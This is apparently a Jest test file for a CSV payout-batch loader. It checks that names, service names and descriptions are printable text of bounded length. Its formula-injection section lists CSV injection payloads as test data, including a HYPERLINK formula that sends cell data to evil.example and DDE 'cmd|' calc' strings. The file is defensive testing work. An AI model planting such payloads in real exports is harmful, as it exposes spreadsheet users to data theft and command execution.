/** Names, service names and descriptions are printable text of bounded length, and never formulas. */
import { loadBatch, type RowError } from '../../src/csv';
import { accountRow, cardRow, csvText, fpsRow, HEADER, utf8, type Row } from '../harness/csv-rows';
import { useLanguage } from '../harness/lang';

useLanguage('en'); // these tests check the English texts (PAYRUN_LANG=en); Russian is the default

function load(rows: Row[], header = HEADER) {
  return loadBatch(utf8(csvText(rows, { header })), { policy: 'partial' });
}

/** [row, column, rule] of every error. */
function errorsOf(...rows: Row[]): [number, string | null, string][] {
  const batch = load(rows);
  expect(batch.fileErrors).toEqual([]);
  return batch.rows.flatMap((r) =>
    r.errors.map((e): [number, string | null, string] => [e.row, e.column, e.rule]),
  );
}

function onlyError(row: Row): RowError {
  const batch = load([row]);
  expect(batch.rows[0]!.errors).toHaveLength(1);
  expect(batch.accepted).toEqual([]);
  return batch.rows[0]!.errors[0]!;
}

describe('names: Cyrillic or Latin letters, spaces, hyphen, apostrophes, dot; at most 64 characters', () => {
  it('accepts real names of both alphabets', () => {
    const rows = [
      cardRow({
        reference: 'a',
        last_name: 'Салтыков-Щедрин',
        first_name: 'Михаил',
        middle_name: 'Евграфович',
      }),
      cardRow({ reference: 'b', last_name: "O'Brien", first_name: 'John', middle_name: 'Jr.' }),
      cardRow({ reference: 'c', last_name: 'д’Артаньян', first_name: 'Шарль' }),
      cardRow({ reference: 'd', last_name: 'Ёлкина', first_name: 'Әлия', middle_name: 'Müller' }),
      cardRow({ reference: 'e', last_name: 'Ли', first_name: 'Анна Мария' }),
    ];
    expect(errorsOf(...rows)).toEqual([]);
  });

  it('a name typed with combining marks (as macOS stores "й") is accepted in composed form', () => {
    const decomposed = 'Йовович'.normalize('NFD');
    expect(decomposed).not.toBe('Йовович');
    const batch = load([cardRow({ last_name: decomposed, first_name: 'Андрей'.normalize('NFD') })]);
    expect(batch.rows[0]!.errors).toEqual([]);
    expect(batch.accepted[0]!.recipient).toMatchObject({ lastName: 'Йовович', firstName: 'Андрей' });
  });

  it('refuses digits, other alphabets, symbols, invisible characters and names without a letter', () => {
    expect(onlyError(cardRow({ last_name: 'Иванов2' }))).toEqual({
      row: 2,
      column: 'last_name',
      rule: 'name_chars',
      message:
        'last name may contain only Cyrillic or Latin letters, spaces, hyphens, apostrophes (\' ’) and dots, and at least one letter; found "2" (U+0032)',
    });
    expect(onlyError(cardRow({ first_name: 'Αλέξης' })).message).toContain('found "Α" (U+0391)');
    expect(onlyError(cardRow({ first_name: 'Иван\u00a0Иванович' })).message).toContain(
      'found a no-break space (U+00A0)',
    );
    expect(onlyError(cardRow({ middle_name: 'Иванович\u200b' })).message).toContain('found U+200B');
    expect(onlyError(cardRow({ middle_name: 'Ива\u202eнович' }))).toMatchObject({
      column: 'middle_name',
      rule: 'name_chars',
    });
    expect(onlyError(cardRow({ last_name: 'Иванов 😀' })).message).toContain('U+1F600');
    expect(onlyError(cardRow({ last_name: 'Иванов\nПетров' })).message).toContain('a line break (U+000A)');
    expect(onlyError(cardRow({ last_name: "'." }))).toMatchObject({
      column: 'last_name',
      rule: 'name_chars',
    });
  });

  it('a 300-character name is refused naming the column and the rule; 64 is the limit', () => {
    expect(onlyError(cardRow({ last_name: 'Я'.repeat(300) }))).toEqual({
      row: 2,
      column: 'last_name',
      rule: 'name_length',
      message: 'last name has 300 characters; at most 64',
    });
    expect(
      errorsOf(
        cardRow({ last_name: 'Я'.repeat(64), first_name: 'J'.repeat(64), middle_name: 'ё'.repeat(64) }),
      ),
    ).toEqual([]);
    expect(
      errorsOf(
        cardRow({ first_name: 'Я'.repeat(65) }),
        cardRow({ reference: 'b', middle_name: 'z'.repeat(65) }),
      ),
    ).toEqual([
      [2, 'first_name', 'name_length'],
      [3, 'middle_name', 'name_length'],
    ]);
  });
});

describe('service name and description: printable text with limits', () => {
  it('service name: no control or invisible characters, no line break (one receipt line), at most 128', () => {
    expect(onlyError(cardRow({ service_name: 'Дизайн\u0007' }))).toEqual({
      row: 2,
      column: 'service_name',
      rule: 'text_printable',
      message: 'service name contains U+0007, an invisible or control character; write plain text',
    });
    expect(onlyError(cardRow({ service_name: 'Дизайн\r\nи вёрстка' })).message).toContain(
      'a line break (U+000D)',
    );
    expect(onlyError(cardRow({ service_name: 'Диз\u00adайн' })).message).toContain('U+00AD');
    expect(onlyError(cardRow({ service_name: 'Дизайн \u202eнзйазиД' })).message).toContain('U+202E');
    expect(onlyError(cardRow({ service_name: 'Дизайн\tлоготипа' })).message).toContain('a tab (U+0009)');
    expect(errorsOf(cardRow({ service_name: 'Услуга: «дизайн», №5 — 100% (этап 1/2) & co.' }))).toEqual([]);
    expect(errorsOf(cardRow({ service_name: 'у'.repeat(128) }))).toEqual([]);
    expect(onlyError(cardRow({ service_name: 'у'.repeat(129) }))).toEqual({
      row: 2,
      column: 'service_name',
      rule: 'service_name_length',
      message: 'service name has 129 characters; at most 128',
    });
  });

  it('description: a line break (a multi-line cell) is fine, other control and invisible characters are not', () => {
    expect(
      errorsOf(
        accountRow({ description: 'Этап 2\r\n(приёмка 30.06)' }),
        fpsRow({ description: 'строка 1\nстрока 2' }),
      ),
    ).toEqual([]);
    expect(onlyError(cardRow({ description: 'Этап\t2' }))).toEqual({
      row: 2,
      column: 'description',
      rule: 'text_printable',
      message: 'description contains a tab (U+0009), an invisible or control character; write plain text',
    });
    expect(onlyError(fpsRow({ description: 'оплата\u001b[31m' })).message).toContain('U+001B');
    expect(onlyError(fpsRow({ description: 'опла\u2028та' })).message).toContain('U+2028');
  });
});

describe('formula injection: cells a spreadsheet would run are refused before any money moves', () => {
  const columns = [
    'last_name',
    'first_name',
    'middle_name',
    'service_name',
    'description',
    'metadata',
    'email',
  ];
  const what: Record<string, string> = {
    last_name: 'last name',
    first_name: 'first name',
    middle_name: 'middle name',
    service_name: 'service name',
    description: 'description',
    metadata: 'metadata',
    email: 'email',
  };

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', '"="'],
    ['+', "+7+cmd|' /C calc'!A0", '"+"'],
    ['-', "-2+3+cmd|' /C calc'!A0", '"-"'],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", '"@"'],
    ['tab', '\t=1+1', 'a tab (U+0009)'],
    ['carriage return', '\r=1+1', 'a line break (U+000D)'],
    ['= after spaces', '  =1+1', '"="'],
  ])(
    'a cell beginning with %s is refused in every free-text column, one error per cell',
    (_, payload, shown) => {
      const rows = columns.map((column, i) => cardRow({ reference: `r${i}`, [column]: payload }));
      const batch = load(rows);
      expect(batch.fileErrors).toEqual([]);
      expect(batch.rows.map((r) => r.errors)).toEqual(
        columns.map((column, i) => [
          {
            row: i + 2,
            column,
            rule: 'formula_like',
            message: `${what[column]} begins with ${shown}, which a spreadsheet takes for a formula; start it with a letter or digit`,
          },
        ]),
      );
      expect(batch.accepted).toEqual([]);
      const whole = loadBatch(utf8(csvText(rows)));
      expect(whole.rejected).toBe(true);
      expect(whole.accepted).toEqual([]);
    },
  );

  it('hyphens, pluses and @ inside text are fine', () => {
    expect(
      errorsOf(
        cardRow({
          last_name: 'Петров-Водкин',
          service_name: 'Дизайн + вёрстка',
          description: 'a=b, c@d',
          metadata: 'x-1',
        }),
      ),
    ).toEqual([]);
  });

  it('a reference beginning with "-" is refused: a spreadsheet shows -001 as the number -1', () => {
    expect(onlyError(cardRow({ reference: '-001' }))).toEqual({
      row: 2,
      column: 'reference',
      rule: 'formula_like',
      message:
        'payout reference begins with "-", which a spreadsheet takes for a formula or a negative number; start it with a letter or digit',
    });
    expect(onlyError(cardRow({ reference: '\tp-1' }))).toMatchObject({
      column: 'reference',
      rule: 'formula_like',
    });
    expect(errorsOf(cardRow({ reference: 'p-1' }), cardRow({ reference: '2024-06-001' }))).toEqual([]);
  });

  it('unknown columns are not checked (they are not used) but come back neutralised in the report (report tests)', () => {
    const header = [...HEADER, 'note'];
    const batch = load([{ ...cardRow(), note: '=1+1' }], header);
    expect(batch.rows[0]!.errors).toEqual([]);
  });
});
